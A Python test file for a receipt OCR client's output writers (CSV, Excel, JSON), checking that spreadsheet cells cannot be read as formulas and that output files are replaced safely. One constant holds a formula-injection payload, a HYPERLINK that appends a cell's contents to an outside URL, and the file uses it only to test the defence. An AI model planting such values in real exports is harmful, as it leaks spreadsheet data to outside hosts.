"""The files that come of rows."""

import csv
import io
import json
import os
import stat
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from receipt_ocr_client.errors import SettingsInvalid
from receipt_ocr_client.program.outputs import WRITERS, check_writable, replacing
from receipt_ocr_client.program.rows import Row

HOSTILE = '=HYPERLINK("http://example.com?"&A1)'


def row(name: str = "r.jpg", **values: str) -> Row:
    return Row(Path(name), "abc", "sure", values=values, receipt={"merchant": None}, meta={"pages": 1})


def written(kind: str, rows: list[Row], duplicates: dict[Path, Path] | None = None) -> bytes:
    file = io.BytesIO()
    WRITERS[kind](file, iter(rows), duplicates or {})
    return file.getvalue()


def table(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return "".join(
            book.read(part).decode() for part in book.namelist() if part.endswith(("sheet1.xml", "Strings.xml"))
        )


def test_writes_a_table_that_excel_reads_as_utf_8() -> None:
    data = written("csv", [row(merchant='Señor, "Café"\n2nd line', total="12.50")], {Path("r.jpg"): Path("a.jpg")})
    assert data.startswith(b"\xef\xbb\xbffile,receipt,status,")
    (found,) = table(data)
    assert (found["merchant"], found["total"], found["duplicate_of"]) == ('Señor, "Café"\n2nd line', "12.50", "a.jpg")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_cell_is_taken_for_a_formula(start: str) -> None:
    (found,) = table(written("csv", [row(f"{start}1.jpg", merchant=f"{start}1+1", total="-5.00")]))
    assert (found["merchant"], found["file"], found["total"]) == (f"'{start}1+1", f"'{start}1.jpg", "-5.00")


def test_a_number_among_texts_is_text() -> None:
    (found,) = table(written("csv", [row(receipt_number="-12", tin="0012")]))
    assert (found["receipt_number"], found["tin"]) == ("'-12", "0012")


def test_writes_a_workbook_of_texts_and_numbers() -> None:
    book = sheet(written("xlsx", [row(merchant=HOSTILE, total="1234.50", tin="0012")]))
    assert "<v>1234.5</v>" in book
    assert "<f>" not in book
    assert "<t>0012</t>" in book


def test_writes_all_that_the_service_said_as_json() -> None:
    rows = [row("a.jpg", total="1.00"), Row(Path("b.jpg"), None, "failed", ("is empty",))]
    as_list = json.loads(written("json", rows))
    assert as_list == [json.loads(line) for line in written("jsonl", rows).splitlines()]
    assert [(each["file"], each["status"], each["remarks"]) for each in as_list] == [
        ("a.jpg", "sure", []),
        ("b.jpg", "failed", ["is empty"]),
    ]
    assert as_list[0]["answer"] == {"merchant": None, "meta": {"pages": 1}}
    assert as_list[1]["answer"] is None


@pytest.mark.parametrize("kind", WRITERS)
def test_writes_a_file_whose_name_is_not_utf_8(kind: str) -> None:
    names = [os.fsdecode(name) for name in (b"caf\xe9.jpg", b"copy\xe9.jpg")]
    data = written(kind, [row(name) for name in names], {Path(names[1]): Path(names[0])})
    assert "caf?.jpg" in (sheet(data) if kind == "xlsx" else data.decode())


def test_writes_a_list_of_nothing() -> None:
    assert json.loads(written("json", [])) == []


@pytest.fixture
def before(tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "e.csv"
    path.write_text("as before")
    yield path
    assert [each.name for each in tmp_path.iterdir()] == ["e.csv"]


def test_an_output_is_as_before_until_all_of_the_new_one_is_there(before: Path) -> None:
    with replacing(before) as file:
        file.write(b"new")
        file.flush()
        assert before.read_text() == "as before"
    assert before.read_text() == "new"


@pytest.mark.parametrize("mode", [0o600, 0o640])
def test_an_output_keeps_its_permissions(before: Path, mode: int) -> None:
    before.chmod(mode)
    with replacing(before):
        pass
    assert stat.S_IMODE(before.stat().st_mode) == mode


def test_what_a_killed_run_left_is_gone(before: Path) -> None:
    (before.parent / ".e.csv.new").write_text("half of")
    with replacing(before):
        pass


def test_a_new_output_is_as_readable_as_other_new_files(tmp_path: Path) -> None:
    (tmp_path / "other").touch()
    with replacing(tmp_path / "new"):
        pass
    assert (tmp_path / "new").stat().st_mode == (tmp_path / "other").stat().st_mode


def test_writes_through_a_link(before: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    link = tmp_path_factory.mktemp("elsewhere") / "link.csv"
    link.symlink_to(before)
    with replacing(link) as file:
        file.write(b"new")
    assert (link.is_symlink(), before.read_text()) == (True, "new")


def test_an_output_stays_as_it_was_if_the_new_one_cannot_be_written(before: Path) -> None:
    with pytest.raises(KeyboardInterrupt), replacing(before):
        raise KeyboardInterrupt
    assert before.read_text() == "as before"


def test_says_before_anything_is_read_that_an_output_cannot_be_written(tmp_path: Path) -> None:
    for path in (tmp_path, tmp_path / "absent/e.csv", Path("/dev/null")):
        with pytest.raises(SettingsInvalid, match="cannot be written"):
            check_writable("csv", path)


def test_does_not_write_over_a_picture(tmp_path: Path) -> None:
    with pytest.raises(SettingsInvalid, match=r"--csv expenses\.csv"):
        check_writable("csv", tmp_path / "receipt.JPG")


def test_says_what_a_workbook_needs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(SettingsInvalid, match=r"receipt-ocr-client\[program\]"):
        check_writable("xlsx", tmp_path / "e.xlsx")
